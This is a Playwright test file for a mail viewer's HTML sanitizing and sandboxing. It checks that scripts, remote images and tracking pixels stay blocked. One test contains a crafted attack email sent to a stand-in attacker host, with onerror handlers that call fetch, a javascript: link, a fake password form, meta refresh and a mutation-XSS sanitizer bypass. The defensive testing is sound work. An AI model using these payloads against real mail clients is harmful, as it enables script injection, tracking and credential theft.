/* Mail as its sender wrote it, read from the history: cleaned, locked in, and silent until the person asks for its pictures. */
import { expect, type FrameLocator, type Locator, test } from '@playwright/test';
import { log } from '../world/acts.ts';
import type { PersonsBrowser } from '../world/browser.ts';
import { ana, jane } from '../world/people.ts';
import { pictures, worldWithBrowsers } from '../world/with-browsers.ts';
import { region } from './in-panel.ts';

const world = worldWithBrowsers('html-mail', [ana]);
const anas = (): PersonsBrowser => world.browser(ana);

test.beforeAll(async () => {
  await log(world.as(ana), world.threadId(ana, 'jane'), [world.candidateId(jane.address)]);
});

const onePixel = 'R0lGODlhAQABAIAAAP///wAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==';

/** The sender's first message of the thread as HTML, read from the history of the open thread. */
const openAsSent = async (
  subject: string,
  sender: string,
): Promise<{ message: Locator; body: FrameLocator }> => {
  const history = region(anas(), 'History with the team');
  await history.getByRole('button', { name: subject }).click();
  const message = history
    .getByRole('list', { name: /^Messages of/ })
    .getByRole('listitem')
    .filter({ has: anas().panel.locator('summary', { hasText: sender }) })
    .first();
  if ((await message.locator('details').getAttribute('open')) === null)
    await message.locator('summary').click();
  const asSent = message.getByRole('button', { name: 'Show as sent' });
  await asSent.or(message.locator('iframe')).first().waitFor();
  if (await asSent.isVisible()) await asSent.click();
  return { message, body: message.frameLocator('iframe') };
};

test('a script in a mail never runs and a picture from elsewhere is not loaded until asked for', async () => {
  const { context, mail, panel, strangers } = anas();
  await anas().openThread(world.threadId(ana, 'jane'));
  const { message, body } = await openAsSent('On-site interview next week', 'Jane Doe');
  await expect(body.locator('b')).toHaveText('perfect');
  await expect(body.locator('script')).toHaveCount(0);
  await expect(body.locator('img')).not.toHaveAttribute('src', /.*/);
  expect(await panel.locator('html').evaluate(() => document.title)).toBe('Candor');
  expect(strangers).toEqual([]);
  await mail.screenshot({ path: `${pictures}html-mail-1-no-pictures.png` });

  const asked: Record<string, string>[] = [];
  await context.route('https://tracker.mailbox.test/pixel.gif', (route) => {
    asked.push(route.request().headers());
    return route.fulfill({ contentType: 'image/gif', body: Buffer.from(onePixel, 'base64') });
  });
  await message.getByRole('button', { name: 'Show remote images' }).click();
  await expect(body.locator('img')).toHaveJSProperty('naturalWidth', 1);
  expect(asked).toHaveLength(1);
  expect(asked[0]).not.toHaveProperty('referer');
  expect(asked[0]).not.toHaveProperty('cookie');
  expect(await panel.locator('html').evaluate(() => document.title)).toBe('Candor');
});

test('the frame of a mail has no origin, no scripts and no way to the panel', async () => {
  await anas().openThread(world.threadId(ana, 'jane'));
  const frame = anas().panel.locator('iframe.mail-frame');
  if ((await frame.count()) === 0) await openAsSent('On-site interview next week', 'Jane Doe');
  const sandbox = (await frame.getAttribute('sandbox'))?.split(' ') ?? [];
  expect(sandbox).not.toContain('allow-scripts');
  expect(sandbox).not.toContain('allow-same-origin');
  expect(sandbox).not.toContain('allow-forms');
  expect(sandbox).not.toContain('allow-top-navigation');
});

test('mail made to attack its reader is shown as words, asks for nothing and changes nothing', async () => {
  const { mail, panel, strangers } = anas();
  const far = 'https://attacker.mailbox.test';
  const threadId = world.send(ana, {
    id: 'attack@mailbox.test',
    from: jane,
    to: [ana],
    subject: 'Please look',
    text: 'Please look.',
    html: `<html><head><meta http-equiv="refresh" content="0;url=${far}/refresh"><base href="${far}/"><link rel="stylesheet" href="${far}/a.css">
<style>@import url(${far}/b.css); body { background: url(${far}/c.png) }</style></head>
<body background="${far}/d.png" onload="parent.postMessage('owned', '*')">
<p style="background-image:url(${far}/e.png)">Please <b>look</b>.</p>
<img src="x" onerror="document.title='owned';fetch('${far}/f')"><img srcset="${far}/g.png 2x">
<svg onload="document.title='owned'"><image href="${far}/h.png"></image></svg>
<video src="${far}/i.mp4" poster="${far}/j.png" autoplay></video><audio src="${far}/k.mp3" autoplay></audio>
<iframe src="${far}/l"></iframe><object data="${far}/m"></object><embed src="${far}/n">
<form action="${far}/o"><input name="password" autofocus><button>Sign in</button></form>
<a href="javascript:document.title='owned'">one</a> <a href="${far}/p" ping="${far}/q">two</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=document.title='owned'&gt;"></table></mtext></math>
</body></html>`,
  });
  await log(world.as(ana), threadId, [world.candidateId(jane.address)]);
  const soFar = strangers.length;
  await anas().openThread(threadId);
  const { body } = await openAsSent('Please look', 'Jane Doe');
  await expect(body.locator('b')).toHaveText('look');
  await mail.screenshot({ path: `${pictures}html-mail-2-attack.png` });
  for (const tag of [
    'script',
    'form',
    'input',
    'iframe',
    'object',
    'embed',
    'video',
    'audio',
    'base',
    'link',
  ])
    await expect(body.locator(tag)).toHaveCount(0);
  await expect(body.locator('a', { hasText: 'one' })).not.toHaveAttribute('href', /.*/);
  const two = body.locator('a', { hasText: 'two' });
  await expect(two).toHaveAttribute('rel', /noopener noreferrer/);
  await expect(two).toHaveAttribute('target', '_blank');
  await expect(two).not.toHaveAttribute('ping', /.*/);
  expect(strangers.slice(soFar)).toEqual([]);
  expect(await panel.locator('html').evaluate(() => document.title)).toBe('Candor');
  expect(await mail.title()).not.toBe('owned');
  await expect(region(anas(), 'Candidate')).toContainText('Jane Doe');
});
